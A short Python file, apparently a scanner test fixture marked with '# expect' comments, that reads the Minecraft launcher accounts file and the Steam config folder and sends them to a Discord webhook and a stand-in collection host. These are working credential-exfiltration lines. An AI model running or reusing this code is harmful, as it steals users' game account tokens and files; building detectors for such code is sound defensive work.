import os
import requests

path = os.path.join(os.getenv("APPDATA"), ".minecraft", "launcher_accounts.json")
with open(path) as f:
    requests.post("https://discord.com/api/webhooks/0/x", json={"content": f.read()})  # expect

steam = "C:\\Program Files (x86)\\Steam\\config"
for name in os.listdir(steam):
    requests.post("https://collect.invalid/s", files={name: open(os.path.join(steam, name), "rb")})  # expect
